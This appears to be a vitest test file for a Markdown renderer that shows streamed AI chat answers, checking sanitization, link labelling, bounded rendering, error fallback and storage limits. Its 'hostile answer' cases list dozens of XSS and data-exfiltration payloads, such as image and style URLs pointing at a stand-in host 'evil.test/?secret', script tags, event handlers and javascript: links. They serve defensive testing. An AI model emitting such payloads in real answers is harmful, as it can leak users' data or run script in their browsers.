// @vitest-environment jsdom
import { marked } from 'marked'
import { afterEach, describe, expect, it, vi } from 'vitest'
import { $conversations, keep, turnsOf } from './conversations'
import { GrowingMarkdown } from './markdown'

afterEach(() => vi.restoreAllMocks())

/** What an answer becomes, at once and while it grows. */
function pageOf(text: string): HTMLElement {
  const growing = new GrowingMarkdown()
  const { tail } = growing.render(text, false)
  const page = document.createElement('div')
  const inOneGo = new GrowingMarkdown().render(text, true).settled.join('')
  page.innerHTML = `${String(tail)}${growing.render(text, true).settled.join('')}${inOneGo}`
  return page
}

const ALLOWED =
  'a,blockquote,br,code,del,em,h1,h2,h3,h4,h5,h6,hr,kbd,li,ol,p,pre,strong,sub,sup,table,tbody,td,th,thead,tr,ul'
const ALLOWED_ATTRIBUTES = ['align', 'data-goes-to', 'href', 'rel', 'start', 'target', 'title']

const EVIL = 'https://evil.test/?secret'

describe('a hostile answer', () => {
  it.each([
    `![](${EVIL})`,
    `![x][1]\n\n[1]: ${EVIL}`,
    `[![x](${EVIL})](https://evil.test)`,
    `<img src=${EVIL}>`,
    `<img srcset="${EVIL} 2x">`,
    `<picture><source srcset="${EVIL}"><img></picture>`,
    `<video src="${EVIL}" poster="${EVIL}" autoplay></video>`,
    `<audio autoplay><source src="${EVIL}"><track src="${EVIL}"></audio>`,
    `<iframe src="${EVIL}"></iframe><frame src="${EVIL}">`,
    `<iframe srcdoc="<img src=${EVIL}>"></iframe>`,
    `<object data="${EVIL}"></object><embed src="${EVIL}">`,
    `<svg><image href="${EVIL}"/><use href="${EVIL}"/><style>*{background:url(${EVIL})}</style></svg>`,
    `<svg><foreignObject><img src="${EVIL}"></foreignObject></svg>`,
    `<math><mtext><style><img src="${EVIL}"></style></mtext></math>`,
    `<math href="${EVIL}"><mi>x</mi></math>`,
    `<table background="${EVIL}"><tr><td background="${EVIL}">x</td></tr></table>`,
    `<p style="position:fixed;inset:0;background:url(${EVIL})">x</p>`,
    '<style>* { display: none }</style>',
    `<style>@import url(${EVIL})</style>`,
    `<link rel="stylesheet" href="${EVIL}"><link rel="prefetch" href="${EVIL}">`,
    `<base href="${EVIL}"><meta http-equiv="refresh" content="0;url=${EVIL}">`,
    `<form action="${EVIL}"><input type="password"><button formaction="${EVIL}">Go</button></form>`,
    '<input type="image" src="x"><textarea>x</textarea><select><option>x</select>',
    '<dialog open>Log in</dialog><div popover id="x">x</div>',
    `<a href="${EVIL}" ping="${EVIL}" download id="app" class="button" name="body">x</a>`,
    '<a href="javascript:alert(1)">x</a> [x](javascript:alert(1)) [x](JAVASCRIPT&colon;alert(1))',
    '[x](data:text/html,<script>alert(1)</script>) [x](vbscript:x) [x](blob:https://a/b)',
    '[x](//evil.test) [x](/api/sse/disconnect/1) [x](#other) [x](chat)',
    '<script>alert(1)</script><script src="https://evil.test"></script>',
    '<p id="app" name="getElementById" class="problem" data-testid="stop" role="alert">x</p>',
    '<b onclick=alert(1) $x><kbd><b $x onclick=alert(1)>x',
    '<code><img src=x onerror=alert(1)></code> <pre><img src=x onerror=alert(1)>',
    `<noscript><p title="</noscript><img src=${EVIL}>">`,
    `- [ ] <img src="${EVIL}">\n- [x] done`,
    `| <img src="${EVIL}"> |\n|-|\n| <style>x</style> |`,
    '```js" onclick="alert(1)\nx\n```',
    `<!-- <img src="${EVIL}"> --> <![CDATA[<img src=${EVIL}>]]> <?x <img src=${EVIL}>?>`,
  ])('becomes nothing but text and links: %s', (text) => {
    const page = pageOf(text)
    for (const element of page.querySelectorAll('*')) {
      expect(ALLOWED.split(',')).toContain(element.localName)
      for (const { name } of element.attributes) expect(ALLOWED_ATTRIBUTES).toContain(name)
      const href = element.getAttribute('href')
      if (href !== null) expect(href).toMatch(/^(?:https?:\/\/|mailto:)/)
    }
  })

  it.each([
    ['[The bank](https://evil.test/a)', 'evil.test'],
    ['[bank.test](https://evil.test/a)', 'evil.test'],
    ['[https://evil.test@bank.test/](https://bank.test@evil.test/)', 'evil.test'],
    ['[https://bank.test.evil.test](https://bank.test)', 'bank.test'],
    ['[x](https://bаnk.test)', 'xn--bnk-6cd.test'],
    ['[Write](mailto:a@b.test)', 'mailto:a@b.test'],
    ['[https://a.test/b](https://a.test/b)', null],
    ['<https://a.test/b>', null],
    ['https://a.test/b', null],
  ])('has links that say where they go, and open apart: %s', (text, place) => {
    const [html] = new GrowingMarkdown().render(text, true).settled
    const page = document.createElement('div')
    page.innerHTML = String(html)
    const link = page.querySelector('a')!
    expect(link.getAttribute('data-goes-to')).toBe(place)
    expect(link.title).toBe(link.getAttribute('href'))
    expect([link.target, link.rel]).toEqual(['_blank', 'noopener noreferrer nofollow'])
  })

  it('keeps what Markdown can say without harm', () => {
    const text = 'a<br>b 10<sup>6</sup> &amp; 1 < 2 & "x"\n\n3. c\n\n| d |\n|:-:|\n| e |\n\n- [x] f'
    expect(new GrowingMarkdown().render(text, true).settled.join('')).toBe(
      '<p>a<br>b 10<sup>6</sup> &amp; 1 &lt; 2 &amp; "x"</p>\n<ol start="3">\n<li>c</li>\n</ol>\n' +
        '<table>\n<thead>\n<tr>\n<th align="center">d</th>\n</tr>\n</thead>\n<tbody><tr>\n' +
        '<td align="center">e</td>\n</tr>\n</tbody></table>\n<ul>\n<li>☑ f</li>\n</ul>\n',
    )
  })
})

/** What took the renderer apart, or would if it looked at everything: repeated to 12,000 characters. */
const INTRICATE = [
  ['>', '> ', '- ', '* ', '1. ', '    ', '[', '(', '![', '[a](', '*', '**', '_', '_**a', '~~'],
  ['`', '`a', '|', '| a |\n|-|\n', '(| a |\n|-|\n', '<div>', '<b>', '<a b', '<!--', '&', '\\'],
  ['#', '\n', '[a]: b\n', '[a][', 'www.', 'a@b.', '- [ ] ', '```\n', '***a', '\n\n[', '  - a\n('],
].flat()
const SIZE = 12_000
const repeated = (part: string, size = SIZE) => part.repeat(Math.ceil(size / part.length))

describe('an intricate answer', () => {
  it.each(INTRICATE)('is shown whole and in bounded work: %j', { timeout: 60_000 }, (part) => {
    for (const text of [
      repeated(part),
      `${repeated(part, SIZE / 2)}\n${repeated('a\n', SIZE / 2)}`,
    ]) {
      const { settled, tail } = new GrowingMarkdown().render(text, true)
      expect(tail).toBe('')
      expect(settled.length).toBeGreaterThan(text.trim() === '' ? -1 : 0)
    }
  })

  it.each([
    ['> '.repeat(6000), 6000],
    [`${'- '.repeat(6000)}x`, 6000],
  ])('too deep for Markdown shows as it is written', (text, count) => {
    const page = document.createElement('div')
    page.innerHTML = new GrowingMarkdown().render(text, true).settled.join('')
    expect(page.querySelectorAll('blockquote, ul')).toHaveLength(0)
    expect(page.textContent.match(/[>-]/g)).toHaveLength(count)
  })

  it('has the rest as Markdown', () => {
    const html = new GrowingMarkdown().render(`a **b**\n\n${'>'.repeat(500)}\n\nc **d**`, true)
    expect(html.settled.join('')).toMatch(/<strong>b<\/strong>[^]*&gt;&gt;[^]*<strong>d<\/strong>/)
  })

  it('is cut where a block is too long, a code block stays code, to the letter', () => {
    const code = Array.from({ length: 3000 }, (_, i) => `line ${i} *a* <b>`).join('\n')
    const text = `Before\n\n\`\`\`js\n${code}\n\`\`\`\n\n**After**`
    const growing = new GrowingMarkdown()
    for (let length = 0; length < text.length; length += 997)
      growing.render(text.slice(0, length), false)
    for (const { settled } of [
      growing.render(text, true),
      new GrowingMarkdown().render(text, true),
    ]) {
      const page = document.createElement('div')
      page.innerHTML = settled.join('')
      const shown = Array.from(
        page.querySelectorAll('code'),
        ({ textContent }) => textContent,
      ).join('')
      expect(shown.trimEnd()).toBe(code)
      expect(page.querySelector('strong')!.textContent).toBe('After')
    }
  })

  it('has a tail that never grows past a bound', () => {
    const growing = new GrowingMarkdown()
    const lengths = Array.from({ length: 100 }, (_, i) => {
      return String(growing.render('word '.repeat(200 * i), false).tail).length
    })
    expect(Math.max(...lengths)).toBeLessThan(9000)
  })
})

describe('an exception of the renderer', () => {
  it.each(['parser', 'lexer'] as const)('of its %s shows plain text', (which) => {
    const fail = () => {
      throw new Error('broken')
    }
    const target: object = which === 'parser' ? marked.Parser.prototype : marked.Lexer.prototype
    vi.spyOn(
      target as Record<string, () => unknown>,
      which === 'parser' ? 'parse' : 'lex',
    ).mockImplementation(fail)
    const growing = new GrowingMarkdown()
    expect(growing.render('a **b', false).tail).toBe('<p>a **b</p>\n')
    expect(growing.render('a **b** <i>', true).settled.join('')).toBe('<p>a **b** &lt;i&gt;</p>\n')
  })
})

describe('a full storage', () => {
  it('does not keep a page from going on, and keeps the latest that fit', () => {
    const setItem = Storage.prototype.setItem
    vi.spyOn(Storage.prototype, 'setItem').mockImplementation(function (
      this: Storage,
      name,
      value,
    ) {
      if (value.length > 3000) throw new DOMException('full', 'QuotaExceededError')
      setItem.call(this, name, value)
    })
    const turn = (text: string) => [
      { id: 't', prompt: 'p', text, tokens: 1, phase: 'done' as const },
    ]
    for (let i = 0; i < 20; i += 1) keep(`${i}`, turn('x'.repeat(300)))
    expect($conversations.get()[0]!.id).toBe('19')
    keep('large', turn('x'.repeat(5000)))
    expect(turnsOf('large')).toHaveLength(1)
  })
})
